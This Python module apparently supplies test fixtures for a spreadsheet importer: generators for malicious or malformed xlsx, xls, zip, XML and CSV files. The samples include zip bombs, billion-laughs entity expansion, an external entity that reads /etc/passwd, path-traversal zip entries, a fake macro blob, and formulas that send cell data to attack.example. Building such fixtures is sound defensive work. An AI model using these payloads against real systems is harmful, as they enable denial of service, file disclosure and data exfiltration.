"""Files that somebody made to do harm, or that a program made badly: name → content."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

import openpyxl

CONTENT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
TYPES = f"""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="{CONTENT}.sheet.main+xml"/></Types>"""
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROOT = (
    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
BOOK = (
    f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
)
BOOK_RELATIONS = (
    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
ONE_CELL = '<row r="1"><c r="A1"><v>1</v></c></row>'
HEAD, TAIL = f'<worksheet xmlns="{MAIN}"><sheetData>', "</sheetData></worksheet>"


def xlsx(sheet: str | bytes, **parts: str | bytes) -> bytes:
    """A workbook of one sheet; a part with `_` for `/` in its name is added or replaced."""
    content = io.BytesIO()
    named: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": ROOT,
        "xl/workbook.xml": BOOK,
        "xl/_rels/workbook.xml.rels": BOOK_RELATIONS,
        "xl/worksheets/sheet1.xml": sheet,
        **{name.replace("__", "/"): part for name, part in parts.items()},
    }
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, part in named.items():
            archive.writestr(name, part)
    return content.getvalue()


def rows(count: int, cell: str = "x", first: int = 1) -> str:
    row = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{cell}</t></is></c></row>' for n in range(first, first + count)
    )
    return HEAD + row + TAIL


def wide(columns: int, count: int = 1) -> str:
    letters = [openpyxl.utils.get_column_letter(at) for at in range(1, columns + 1)]
    return (
        HEAD
        + "".join(
            f'<row r="{n}">' + "".join(f'<c r="{each}{n}"><v>1</v></c>' for each in letters) + "</row>"
            for n in range(1, count + 1)
        )
        + TAIL
    )


def plain() -> bytes:
    book = openpyxl.Workbook()
    for n in range(50):
        book.active.append([f"{n}", "x", n])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def formulas() -> bytes:
    book = openpyxl.Workbook()
    for n in range(2_000):
        book.active.append([f"{n}", f'=WEBSERVICE("http://attack.example/"&A{n + 1})'])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def with_entry(name: str, content: bytes = b"x") -> bytes:
    whole = io.BytesIO(plain())
    with zipfile.ZipFile(whole, "a") as archive:
        archive.writestr(name, content)
    return whole.getvalue()


def many_entries() -> bytes:
    whole = io.BytesIO(plain())
    with zipfile.ZipFile(whole, "a") as archive:
        for n in range(5_000):
            archive.writestr(f"xl/media/{n}.png", b"")
    return whole.getvalue()


def encrypted_zip() -> bytes:
    """The bit that says "encrypted" on every part."""
    content = bytearray(plain())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def ole(*names: str, padding: int = 0) -> bytes:
    """An OLE2 container with empty streams of these names."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<109I", header, 76, 0, *([0xFFFFFFFF] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    entries = b""
    for at, name in enumerate(("Root Entry", *names)):
        encoded = name.encode("utf-16-le")
        kind = 5 if at == 0 else 2
        child = 1 if at == 0 and names else 0xFFFFFFFF
        sibling = at + 1 if 0 < at < len(names) else 0xFFFFFFFF
        entry = encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded) + 2, kind, 1, 0xFFFFFFFF, sibling, child)
        entries += entry.ljust(116, b"\0") + struct.pack("<IQ", 0xFFFFFFFE, 0)
    return bytes(header) + fat + entries.ljust(512, b"\0")[:512] + b"\0" * padding


def xls(rows: int, *, wide_at: int | None = None) -> bytes:
    import xlwt

    book = xlwt.Workbook()
    page = book.add_sheet("S")
    for n in range(rows):
        page.write(n, 0, f"row {n}")
    if wide_at is not None:
        page.write(65_535, wide_at, "far away")
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def xls_truncated() -> bytes:
    whole = xls(3_000)
    return whole[: len(whole) // 2]


def xls_false_counts() -> bytes:
    """Counts and lengths of records that are far too large."""
    content = bytearray(xls(200))
    for at in range(600, len(content) - 4, 97):
        content[at : at + 4] = b"\xff\xff\xff\x7f"
    return bytes(content)


BILLION = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
    f"<!ENTITY a{n} '{'&a' + str(n - 1) + ';' if n else '&a;'}{('&a' + str(n - 1) + ';' if n else '&a;') * 9}'>"
    for n in range(9)
) + "]>"  # fmt: skip
EXTERNAL = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'


def sheet_with(prolog: str, cell: str) -> str:
    return f'{prolog}{HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>{cell}</t></is></c></row>{TAIL}'


def shared_strings(count: int, size: int) -> str:
    return f'<sst xmlns="{MAIN}">' + f"<si><t>{'y' * size}</t></si>" * count + "</sst>"


_STRANGE_DIMENSION = f'<worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/><sheetData>'

FILES: Mapping[str, Callable[[], bytes]] = {
    # zip
    "a bomb of zeros in the sheet": lambda: xlsx(HEAD.encode() + b" " * 900_000_000 + TAIL.encode()),
    "a bomb of rows": lambda: xlsx(rows(400_000)),
    "a bomb of shared strings": lambda: xlsx(rows(1), **{"xl__sharedStrings.xml": shared_strings(3_000, 50_000)}),
    "a bomb in the styles": lambda: xlsx(rows(1), **{"xl__styles.xml": " " * 200_000_000}),
    "a bomb in the workbook": lambda: xlsx(rows(1), **{"xl__workbook.xml": BOOK + " " * 100_000_000}),
    "a bomb in a picture": lambda: with_entry("xl/media/1.png", b"\0" * 300_000_000),
    "5,000 entries": many_entries,
    "an entry that climbs out": lambda: with_entry("../../../../tmp/out.txt"),
    "an absolute entry": lambda: with_entry("/etc/cron.d/x"),
    "an encrypted zip": encrypted_zip,
    "a zip that is no workbook": lambda: xlsx_without("xl/workbook.xml"),
    "a workbook without its sheet": lambda: xlsx_without("xl/worksheets/sheet1.xml"),
    "a truncated zip": lambda: plain()[:3_000],
    "a zip of its first bytes": lambda: b"PK\x03\x04" + b"\0" * 100,
    "macros": lambda: with_entry("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"m" * 10_000),
    "an external link": lambda: with_entry("xl/externalLinks/externalLink1.xml", b"<x>http://attack.example</x>"),
    # XML
    "a billion laughs in the sheet": lambda: xlsx(sheet_with(BILLION, "&a8;")),
    "a billion laughs in the strings": lambda: (
        xlsx(rows(1), **{"xl__sharedStrings.xml": BILLION + shared_strings(1, 1)})
    ),
    "an external entity in the sheet": lambda: xlsx(sheet_with(EXTERNAL, "&secret;")),
    "an external entity in the workbook": lambda: xlsx(rows(1), **{"xl__workbook.xml": EXTERNAL + BOOK}),
    "a sheet in UTF-16": lambda: xlsx(rows(3).encode("utf-16")),
    "XML that does not end": lambda: xlsx(rows(10)[:-30]),
    "XML that is none": lambda: xlsx("not at all XML"),
    # the sheet
    "300,000 rows": lambda: xlsx(rows(300_000, "a longer text in each of the cells")),
    "false dimensions": lambda: xlsx(rows(3).replace(HEAD, _STRANGE_DIMENSION)),
    "a cell in the last row": lambda: (
        xlsx(HEAD + ONE_CELL + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>' + TAIL)
    ),
    "a cell in the last column": lambda: (
        xlsx(HEAD + '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>' + TAIL)
    ),
    "rows that go back": lambda: (
        xlsx(HEAD + '<row r="900000"><c r="A900000"><v>1</v></c></row>' + ONE_CELL + TAIL)
    ),
    "10,000 columns": lambda: xlsx(wide(10_000)),
    "10,000 columns in 500 rows": lambda: xlsx(wide(10_000, 500)),
    "a cell of 40 MB": lambda: xlsx(rows(1, "z" * 40_000_000)),
    "a column of formulas": formulas,
    # the sheet "About this file"
    "a bomb about the file": lambda: about(rows(150_000, "a longer text in each of the cells")),
    "zeros about the file": lambda: about(HEAD.encode() + b" " * 100_000_000 + TAIL.encode()),
    "a billion laughs about the file": lambda: about(sheet_with(BILLION, "&a8;")),
    "10,000 columns about the file": lambda: about(wide(10_000, 100)),
    "nothing about the file": lambda: about("not at all XML"),
    # OLE2
    "an .xls with a password": lambda: ole("EncryptionInfo", "EncryptedPackage"),
    "an OLE2 file without a workbook": lambda: ole("WordDocument"),
    "an OLE2 file of its first bytes": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5_000,
    "an OLE2 file of random bytes": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(n * 37 % 251 for n in range(200_000))
    ),
    "a truncated .xls": xls_truncated,
    "an .xls with false lengths": xls_false_counts,
    "an .xls with a cell far away": partial(xls, 10, wide_at=255),
    # text
    "HTML named .xls": lambda: b"<html><table><tr><td>1</td></tr></table></html>",
    "a CSV of one endless quote": lambda: b'"' + b"a,b\n" * 10_000_000,
    "a CSV cell of 40 MB": lambda: b"order,x\n1," + b"c" * 40_000_000,
    "a CSV of commas": lambda: b"," * 30_000_000,
    "a CSV of 300,000 rows": lambda: b"a,b\n" * 300_000,
    "bytes of no text": lambda: bytes(range(256)) * 1_000,
    "a text in no encoding": lambda: ("订单号,状态\n".encode() + b"\xff\xfe\xfa\x80,x\n") * 10,
    "nothing": lambda: b"",
    "blanks": lambda: b" \r\n\t\n",
}  # fmt: skip
"""Each is made when it is asked for: some are large."""


def about(sheet: str | bytes) -> bytes:
    """A workbook of three rows whose second sheet says something about the file."""
    second = '<sheet name="About this file" sheetId="2" r:id="r3"/></sheets>'
    relation = f'<Relationship Id="r3" Type="{OFFICE}/worksheet" Target="worksheets/sheet2.xml"/></Relationships>'
    parts: dict[str, str | bytes] = {
        "xl__workbook.xml": BOOK.replace("</sheets>", second),
        "xl___rels__workbook.xml.rels": BOOK_RELATIONS.replace("</Relationships>", relation),
        "xl__worksheets__sheet2.xml": sheet,
    }
    return xlsx(rows(3), **parts)


def xlsx_without(name: str) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx(rows(3)))) as whole, zipfile.ZipFile(content, "w") as archive:
        for each in whole.namelist():
            if each != name:
                archive.writestr(each, whole.read(each))
    return content.getvalue()


Sheet = list[list[Any]]
